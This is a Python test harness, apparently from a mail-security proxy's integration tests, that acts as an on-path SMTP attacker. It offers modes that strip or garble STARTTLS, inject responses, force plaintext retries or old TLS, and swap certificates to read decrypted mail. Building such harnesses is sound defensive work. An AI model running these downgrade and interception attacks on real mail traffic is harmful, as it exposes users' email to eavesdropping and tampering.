#!/usr/bin/python3
"""mitm.py: the on-path STARTTLS attacker of the stsproxy integration tests.

Runs in the "mitm" network namespace behind an iptables/ip6tables REDIRECT of
tcp/25. For every intercepted connection it reads the original destination
(SO_ORIGINAL_DST / IP6T_SO_ORIGINAL_DST), connects to it, and relays the SMTP
dialogue line by line while applying one attack:

  pass         relay unchanged (still records what it saw)
  strip        delete the STARTTLS line from the server's EHLO reply
  garble       replace STARTTLS in the EHLO reply with XXXXXXXA (same length)
  garble-cmd   rewrite the client's STARTTLS command to XXXXXXXX
  refuse       answer the client's STARTTLS with 454 itself, never forwarded
  inject       after the server's 220 to STARTTLS, append "250 injected" in
               the same write, then relay blindly
  mask-banner  replace the greeting text with asterisks (Cisco PIX style)
  refuse-ehlo  answer EHLO with 502 itself, so the client has to use HELO
  swap-cert    terminate the client's STARTTLS itself with --cert/--key and
               relay the decrypted stream to the server in plaintext
  empty-line   blank the STARTTLS line of the EHLO reply to "250-" (same
               line count; ehlo_empty_line)
  starttls-first-line
               delete the STARTTLS line and put "250-STARTTLS" before the
               EHLO reply's first (greeting) line
  mask-keyword keep STARTTLS, mask CHUNKING as XXXXXXXB (Cisco ASA
               "ehlo-reply-parameter others mask")
  malformed    replace STARTTLS in the EHLO reply with eight 0x01 bytes
  ehlo-noop    rewrite the client's EHLO into NOOP (PIX mailguard): the
               server's "250 2.0.0 Ok" is what the client gets for EHLO
  drop-tls     after the server's 220 to STARTTLS, read the client's
               ClientHello and reset both connections (a plaintext retry
               without STARTTLS then passes)
  no-tls       a server without TLS: delete STARTTLS from the EHLO reply and
               answer STARTTLS with 502 ourselves
  old-tls      as swap-cert, but offer only TLS 1.0 and 1.1

Whatever it sees in plaintext is written to --log as
    <time> #<conn> C> <line>      client -> server
    <time> #<conn> S> <line>      server -> client
    <time> #<conn> ** <event>
so tests can assert what the attacker learned. After a successful STARTTLS
(a 220 reply) both directions switch to a blind byte relay and only byte
counts are logged.

Only python3 stdlib. Bounded: line length, reply lines, connections,
per-connection idle time and total runtime.
"""

import argparse
import asyncio
import collections
import socket
import ssl
import struct
import sys
import time
import warnings

SO_ORIGINAL_DST = 80       # <linux/netfilter_ipv4.h>
IP6T_SO_ORIGINAL_DST = 80  # <linux/netfilter_ipv6/ip6_tables.h>

MODES = ("pass", "strip", "garble", "garble-cmd", "refuse", "inject",
         "mask-banner", "refuse-ehlo", "swap-cert",
         "empty-line", "starttls-first-line", "mask-keyword", "malformed",
         "ehlo-noop", "drop-tls", "no-tls", "old-tls")
TERMINATE_TLS = ("swap-cert", "old-tls")  # modes that answer STARTTLS with our own TLS


class Log:
    def __init__(self, path):
        self.fp = open(path, "a", buffering=1, encoding="utf-8")
        self.t0 = time.monotonic()

    def write(self, cid, tag, text):
        self.fp.write("%.3f #%d %s %s\n" % (time.monotonic() - self.t0, cid, tag, text))

    def line(self, cid, tag, raw):
        self.write(cid, tag, show(raw))


def show(raw):
    """One protocol line as printable text, without its line ending."""
    raw = raw.rstrip(b"\r\n")
    out = []
    for b in raw:
        if 0x20 <= b < 0x7f and b != 0x5c:
            out.append(chr(b))
        else:
            out.append("\\x%02x" % b)
    return "".join(out)


def original_dst(sock):
    if sock.family == socket.AF_INET:
        raw = sock.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
        port = struct.unpack("!H", raw[2:4])[0]
        return socket.inet_ntop(socket.AF_INET, raw[4:8]), port
    raw = sock.getsockopt(socket.IPPROTO_IPV6, IP6T_SO_ORIGINAL_DST, 28)
    port = struct.unpack("!H", raw[2:4])[0]
    return socket.inet_ntop(socket.AF_INET6, raw[8:24]), port


class LineReader:
    """Bounded line reader over a StreamReader; keeps leftover bytes so the
    caller can switch to a blind relay without losing any."""

    def __init__(self, reader, max_line, idle):
        self.reader = reader
        self.buf = b""
        self.max_line = max_line
        self.idle = idle

    async def line(self):
        while True:
            i = self.buf.find(b"\n")
            if i >= 0:
                ln, self.buf = self.buf[:i + 1], self.buf[i + 1:]
                return ln
            if len(self.buf) > self.max_line:
                raise ValueError("line longer than %d bytes" % self.max_line)
            data = await asyncio.wait_for(self.reader.read(65536), self.idle)
            if not data:
                ln, self.buf = self.buf, b""
                return ln  # partial last line or b"" at EOF
            self.buf += data

    def take(self):
        b, self.buf = self.buf, b""
        return b


def verb(line):
    return line.strip().split(b" ", 1)[0].upper().decode("ascii", "replace")


class Session:
    def __init__(self, srv, cid, creader, cwriter):
        self.srv = srv
        self.a = srv.args
        self.log = srv.log
        self.cid = cid
        self.cr = LineReader(creader, self.a.max_line, self.a.idle)
        self.cw = cwriter
        self.sr = None
        self.sw = None
        self.pending = collections.deque()  # commands awaiting a server reply
        self.in_body = False
        self.starttls_fut = None
        self.client_tls = False  # swap-cert: we terminated the client's TLS
        self.counts = {"c2s": 0, "s2c": 0}

    def ev(self, text):
        self.log.write(self.cid, "**", text)

    async def run(self):
        sock = self.cw.get_extra_info("socket")
        peer = self.cw.get_extra_info("peername")
        try:
            host, port = original_dst(sock)
        except OSError as e:
            self.ev("no original destination (%s); closing" % e)
            return
        local = sock.getsockname()
        if (host, port) == (local[0], local[1]):
            self.ev("original destination is ourselves (no REDIRECT?); closing")
            return
        self.ev("connection from %s to %s port %d, mode %s" % (peer[0], host, port, self.a.mode))
        try:
            sreader, self.sw = await asyncio.wait_for(
                asyncio.open_connection(host, port), self.a.connect_timeout)
        except (OSError, asyncio.TimeoutError) as e:
            self.ev("connect to %s port %d failed: %r" % (host, port, e))
            return
        self.sr = LineReader(sreader, self.a.max_line, self.a.idle)
        tasks = [asyncio.ensure_future(self.c2s()), asyncio.ensure_future(self.s2c())]
        try:
            done, _ = await asyncio.wait(tasks, timeout=self.a.conn_timeout,
                                         return_when=asyncio.FIRST_EXCEPTION)
            for t in tasks:
                if t in done and t.exception() is not None:
                    self.ev("relay error: %r" % (t.exception(),))
            if len(done) < len(tasks) and not any(t.exception() for t in done):
                # one side ended normally: give the other a moment to drain
                await asyncio.wait(tasks, timeout=self.a.idle)
        finally:
            for t in tasks:
                if not t.done():
                    t.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
            self.sw.close()
            self.ev("closed; blind relay bytes c2s=%d s2c=%d" % (self.counts["c2s"], self.counts["s2c"]))

    # ---- helpers -----------------------------------------------------------
    async def wait_no_pending(self):
        for _ in range(500):  # at most 5 s
            if not self.pending:
                return
            await asyncio.sleep(0.01)

    async def blind(self, lr, writer, key, tag):
        first = True
        data = lr.take()
        while True:
            if not data:
                data = await asyncio.wait_for(lr.reader.read(65536), self.a.idle)
                if not data:
                    break
            if first:
                kind = " (TLS handshake record)" if data[0] == 0x16 else ""
                self.ev("%s blind relay starts, first byte 0x%02x%s" % (tag, data[0], kind))
                first = False
            self.counts[key] += len(data)
            writer.write(data)
            await writer.drain()
            data = b""
        try:
            if writer.can_write_eof():
                writer.write_eof()
        except (OSError, RuntimeError):
            pass

    async def half_close(self, writer):
        try:
            if writer.can_write_eof():
                writer.write_eof()
            else:
                writer.close()
        except (OSError, RuntimeError):
            pass

    # ---- client -> server --------------------------------------------------
    async def c2s(self):
        mode = self.a.mode
        while True:
            line = await self.cr.line()
            if not line:
                await self.half_close(self.sw)
                return
            self.log.line(self.cid, "C>", line)
            if self.in_body:
                if line.rstrip(b"\r\n") == b".":
                    self.in_body = False
                    self.pending.append(".")
                self.sw.write(line)
                await self.sw.drain()
                continue
            cmd = verb(line)
            if cmd == "EHLO" and mode == "refuse-ehlo":
                await self.wait_no_pending()
                self.ev("answered EHLO with 502 ourselves")
                self.cw.write(b"502 5.5.2 Error: command not recognized\r\n")
                await self.cw.drain()
                continue
            if cmd == "EHLO" and mode == "ehlo-noop":
                self.ev("rewrote the client's EHLO into NOOP")
                self.pending.append("NOOP")
                self.sw.write(b"NOOP\r\n")
                await self.sw.drain()
                continue
            if cmd == "STARTTLS" and not self.client_tls:
                if mode == "garble-cmd":
                    line = b"XXXXXXXX" + line[8:]
                    self.ev("garbled STARTTLS command to XXXXXXXX")
                    self.pending.append("XXXXXXXX")
                    self.sw.write(line)
                    await self.sw.drain()
                    continue
                if mode == "refuse":
                    await self.wait_no_pending()
                    self.ev("answered STARTTLS with 454 ourselves")
                    self.cw.write(b"454 4.7.0 TLS not available\r\n")
                    await self.cw.drain()
                    continue
                if mode == "no-tls":
                    await self.wait_no_pending()
                    self.ev("answered STARTTLS with 502 ourselves")
                    self.cw.write(b"502 5.5.1 Error: command not recognized\r\n")
                    await self.cw.drain()
                    continue
                if mode in TERMINATE_TLS:
                    await self.wait_no_pending()
                    self.ev("terminating the client's STARTTLS ourselves with %s" % self.a.cert)
                    self.cw.write(b"220 2.0.0 Ready to start TLS\r\n")
                    await self.cw.drain()
                    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                    if mode == "old-tls":
                        # TLS 1.0/1.1 need security level 0 in OpenSSL 3
                        ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
                        with warnings.catch_warnings():
                            warnings.simplefilter("ignore", DeprecationWarning)
                            ctx.minimum_version = ssl.TLSVersion.TLSv1
                            ctx.maximum_version = ssl.TLSVersion.TLSv1_1
                    ctx.load_cert_chain(self.a.cert, self.a.key)
                    if mode == "old-tls":
                        await self.old_tls_handshake(ctx)
                        self.cw.close()
                        self.sw.close()
                        return
                    try:
                        await self.cw.start_tls(ctx, ssl_handshake_timeout=self.a.idle)
                    except (ssl.SSLError, OSError, asyncio.TimeoutError) as e:
                        self.ev("TLS handshake with the client failed: %r" % (e,))
                        raise
                    tls = self.cw.get_extra_info("ssl_object")
                    self.ev("client accepted our certificate: %s %s; relaying its "
                            "decrypted stream in plaintext" % (tls.version(), tls.cipher()[0]))
                    self.client_tls = True
                    continue
                # forward and wait: nothing may follow STARTTLS in a pipeline
                self.starttls_fut = asyncio.get_running_loop().create_future()
                self.pending.append("STARTTLS")
                self.sw.write(line)
                await self.sw.drain()
                ok = await asyncio.wait_for(self.starttls_fut, self.a.idle)
                if ok:
                    await self.blind(self.cr, self.sw, "c2s", "client->server")
                    return
                continue
            self.pending.append(cmd)
            self.sw.write(line)
            await self.sw.drain()

    # ---- server -> client --------------------------------------------------
    async def read_reply(self):
        lines = []
        while True:
            ln = await self.sr.line()
            if not ln:
                return lines
            lines.append(ln)
            if len(ln) < 4 or ln[3:4] != b"-":
                return lines
            if len(lines) > self.a.max_reply_lines:
                raise ValueError("reply longer than %d lines" % self.a.max_reply_lines)

    async def s2c(self):
        mode = self.a.mode
        greeting = True
        while True:
            lines = await self.read_reply()
            if not lines:
                await self.half_close(self.cw)
                return
            for ln in lines:
                self.log.line(self.cid, "S>", ln)
            code = lines[-1][:3]
            if greeting:
                cmd = "<greeting>"
                greeting = False
                if mode == "mask-banner":
                    lines = [ln[:4] + b"*" * len(ln[4:].rstrip(b"\r\n")) + b"\r\n" for ln in lines]
                    self.ev("masked the greeting text")
            else:
                cmd = self.pending.popleft() if self.pending else "?"
            if cmd == "EHLO" and code == b"250" and mode in EHLO_REWRITES:
                lines = self.rewrite_ehlo(lines, mode)
            if cmd == "DATA" and code == b"354":
                self.in_body = True
            out = b"".join(lines)
            if cmd == "STARTTLS" and not self.client_tls:
                ok = code == b"220"
                if ok and mode == "inject":
                    out += b"250 injected\r\n"
                    self.ev("injected '250 injected' after the 220 to STARTTLS")
                self.cw.write(out)
                await self.cw.drain()
                if ok and mode == "drop-tls":
                    await self.drop_after_client_hello()
                    return
                if self.starttls_fut and not self.starttls_fut.done():
                    self.starttls_fut.set_result(ok)
                if ok:
                    await self.blind(self.sr, self.cw, "s2c", "server->client")
                    return
                continue
            self.cw.write(out)
            await self.cw.drain()

    async def old_tls_handshake(self, ctx):
        """old-tls: the handshake over memory BIOs, so that the alert OpenSSL
        writes when no version is shared (protocol_version) reaches the
        client, as from a real TLS 1.0/1.1-only server (asyncio's start_tls
        drops it). Then the connection ends either way."""
        inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ctx.wrap_bio(inc, out, server_side=True)
        data = self.cr.take()
        while True:
            if data:
                inc.write(data)
            try:
                obj.do_handshake()
            except ssl.SSLWantReadError:
                pending = out.read()
                if pending:
                    self.cw.write(pending)
                    await self.cw.drain()
                data = await asyncio.wait_for(self.cr.reader.read(65536), self.a.idle)
                if not data:
                    self.ev("client closed during the handshake")
                    return
                continue
            except ssl.SSLError as e:
                pending = out.read()
                if pending:
                    self.cw.write(pending)
                    await self.cw.drain()
                self.ev("TLS handshake with the client failed: %r (sent %d bytes of alert)"
                        % (e, len(pending)))
                return
            self.ev("client negotiated %s with a TLS 1.0/1.1-only server; closing" % obj.version())
            return

    async def drop_after_client_hello(self):
        """drop-tls: wait for the client's first TLS bytes, then reset both
        connections (what a box forcing a plaintext retry does)."""
        data = self.cr.take()
        if not data:
            try:
                data = await asyncio.wait_for(self.cr.reader.read(65536), self.a.idle)
            except (OSError, asyncio.TimeoutError):
                data = b""
        self.ev("read %d bytes of the client's handshake (first byte %s); resetting both "
                "connections" % (len(data), "0x%02x" % data[0] if data else "-"))
        for w in (self.cw, self.sw):
            try:
                w.transport.abort()
            except (OSError, RuntimeError, AttributeError):
                pass
        if self.starttls_fut and not self.starttls_fut.done():
            self.starttls_fut.set_result(False)

    def rewrite_ehlo(self, lines, mode):
        out = []
        if mode == "starttls-first-line":
            out.append(lines[0][:3] + b"-STARTTLS\r\n")
            self.ev("put STARTTLS on the first line of the EHLO reply")
        for i, ln in enumerate(lines):
            kw = ln[4:].strip().upper()
            if mode == "mask-keyword":
                if i > 0 and kw == b"CHUNKING":
                    ln = ln[:4] + b"XXXXXXXB" + ln[12:]
                    self.ev("masked CHUNKING to XXXXXXXB in the EHLO reply")
                out.append(ln)
                continue
            if i > 0 and kw == b"STARTTLS":
                if mode in ("strip", "no-tls", "starttls-first-line"):
                    self.ev("stripped STARTTLS from the EHLO reply")
                    continue
                if mode == "empty-line":
                    ln = ln[:4] + b"\r\n"
                    self.ev("blanked the STARTTLS line of the EHLO reply")
                elif mode == "malformed":
                    ln = ln[:4] + b"\x01" * 8 + ln[12:]
                    self.ev("replaced STARTTLS with eight 0x01 bytes in the EHLO reply")
                else:
                    ln = ln[:4] + b"XXXXXXXA" + ln[12:]
                    self.ev("garbled STARTTLS to XXXXXXXA in the EHLO reply")
            out.append(ln)
        # only the last line may use "250 "
        out = [ln[:3] + b"-" + ln[4:] for ln in out[:-1]] + [out[-1][:3] + b" " + out[-1][4:]]
        return out


EHLO_REWRITES = ("strip", "garble", "empty-line", "starttls-first-line", "mask-keyword",
                 "malformed", "no-tls")


class Server:
    def __init__(self, args):
        self.args = args
        self.log = Log(args.log)
        self.nconn = 0
        self.active = set()

    async def handle(self, reader, writer):
        self.nconn += 1
        cid = self.nconn
        if cid > self.args.max_conns:
            self.log.write(cid, "**", "connection limit %d reached; closing" % self.args.max_conns)
            writer.close()
            return
        s = Session(self, cid, reader, writer)
        task = asyncio.current_task()
        self.active.add(task)
        try:
            await s.run()
        except Exception as e:  # noqa: BLE001 - log and drop this connection only
            s.ev("session error: %r" % (e,))
        finally:
            self.active.discard(task)
            try:
                writer.close()
            except Exception:  # noqa: BLE001
                pass

    async def main(self):
        servers = []
        for fam, addr in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            if fam == socket.AF_INET6:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            s.bind((addr, self.args.port))
            s.listen(64)
            s.setblocking(False)
            servers.append(await asyncio.start_server(self.handle, sock=s))
        self.log.write(0, "**", "listening on port %d, mode %s" % (self.args.port, self.args.mode))
        try:
            await asyncio.sleep(self.args.max_runtime)
            self.log.write(0, "**", "max runtime reached; exiting")
        finally:
            for srv in servers:
                srv.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--mode", choices=MODES, default="pass")
    ap.add_argument("--port", type=int, default=10026)
    ap.add_argument("--log", required=True)
    ap.add_argument("--cert", help="certificate for swap-cert")
    ap.add_argument("--key", help="key for swap-cert")
    ap.add_argument("--max-line", type=int, default=8192)
    ap.add_argument("--max-reply-lines", type=int, default=100)
    ap.add_argument("--max-conns", type=int, default=64)
    ap.add_argument("--idle", type=float, default=60.0)
    ap.add_argument("--connect-timeout", type=float, default=10.0)
    ap.add_argument("--conn-timeout", type=float, default=180.0)
    ap.add_argument("--max-runtime", type=float, default=600.0)
    args = ap.parse_args()
    if args.mode in TERMINATE_TLS and not (args.cert and args.key):
        ap.error("%s needs --cert and --key" % args.mode)
    try:
        asyncio.run(Server(args).main())
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
